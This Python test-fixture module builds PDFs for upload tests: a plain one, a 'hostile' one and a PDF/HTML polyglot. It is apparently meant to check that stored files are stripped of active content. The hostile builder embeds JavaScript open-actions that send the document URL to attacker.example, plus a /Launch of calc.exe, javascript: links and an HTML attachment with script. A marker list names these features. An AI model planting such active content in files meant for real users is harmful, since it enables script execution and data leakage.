"""PDF files to upload in tests: plain ones with text, and ones carrying active content."""

import io

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

TEXT = "Ports and power in the Strait"
TITLE = "Ports and Power"
#: Markup that a browser would run if it took the file for a web page.
HTML_BLOCK = b"<html><body><script>alert(document.domain)</script></body></html>"
#: What must not be left in a stored PDF.
ACTIVE_MARKERS = (b"/JavaScript", b"/JS", b"/OpenAction", b"/Launch", b"/EmbeddedFile", b"<script")


def _name(value):
    return NameObject(value)


def _action(kind, **entries):
    action = DictionaryObject({_name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value
    return action


def _link(rect, action=None, destination=None):
    link = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([FloatObject(v) for v in rect]),
        }
    )
    if action is not None:
        link[_name("/A")] = action
    if destination is not None:
        link[_name("/Dest")] = destination
    return link


def _writer(pages):
    writer = PdfWriter()
    font = writer._add_object(
        DictionaryObject(
            {
                _name("/Type"): _name("/Font"),
                _name("/Subtype"): _name("/Type1"),
                _name("/BaseFont"): _name("/Helvetica"),
            }
        )
    )
    for number in range(1, pages + 1):
        page = writer.add_blank_page(width=595, height=842)
        page[_name("/Resources")] = DictionaryObject(
            {_name("/Font"): DictionaryObject({_name("/F1"): font})}
        )
        content = DecodedStreamObject()
        content.set_data(f"BT /F1 18 Tf 72 720 Td ({TEXT}, page {number}) Tj ET".encode())
        page[_name("/Contents")] = writer._add_object(content)
    writer.add_metadata({"/Title": TITLE})
    return writer


def _bytes(writer):
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def text_pdf(pages=2):
    """A plain PDF with a line of text on each page, titled ``TITLE``."""
    return _bytes(_writer(pages))


def hostile_pdf(pages=2):
    """A PDF with text, an internal link and a web link, plus every kind of active content."""
    writer = _writer(pages)
    first, last = writer.pages[0], writer.pages[-1]
    script = "app.launchURL('https://attacker.example/' + this.URL);"
    writer._root_object[_name("/OpenAction")] = writer._add_object(
        _action("/JavaScript", JS=TextStringObject(script))
    )
    first[_name("/AA")] = DictionaryObject(
        {_name("/O"): _action("/JavaScript", JS=TextStringObject(script))}
    )
    first[_name("/Annots")] = ArrayObject(
        [
            writer._add_object(
                _link([72, 600, 300, 620], _action("/Launch", F=TextStringObject("calc.exe")))
            ),
            writer._add_object(
                _link(
                    [72, 560, 300, 580],
                    _action("/URI", URI=TextStringObject("javascript:alert(1)")),
                )
            ),
            writer._add_object(
                _link(
                    [72, 520, 300, 540],
                    _action("/URI", URI=TextStringObject("https://www.rsis.edu.sg/")),
                )
            ),
            writer._add_object(
                _link(
                    [72, 480, 300, 500],
                    destination=ArrayObject([last.indirect_reference, _name("/Fit")]),
                )
            ),
        ]
    )
    writer.add_attachment("payload.html", HTML_BLOCK)  # the /Names /EmbeddedFiles tree
    names = writer._root_object[_name("/Names")]
    names[_name("/JavaScript")] = DictionaryObject(  # scripts run when the document opens
        {
            _name("/Names"): ArrayObject(
                [
                    TextStringObject("init"),
                    writer._add_object(_action("/JavaScript", JS=TextStringObject(script))),
                ]
            )
        }
    )
    return _bytes(writer)


def polyglot_pdf(pages=2):
    """A PDF that is also a web page: script blocks between its objects, in a comment of a
    page's content, in its title, and after its end."""
    writer = _writer(pages)
    page = writer.pages[0]["/Contents"].get_object()
    page.set_data(b"% " + HTML_BLOCK + b"\n" + page.get_data())
    writer.add_metadata({"/Subject": HTML_BLOCK.decode()})
    content = _bytes(writer)
    header_end = content.index(b"\n", content.index(b"\n") + 1) + 1
    return content[:header_end] + HTML_BLOCK + b"\n" + content[header_end:] + HTML_BLOCK
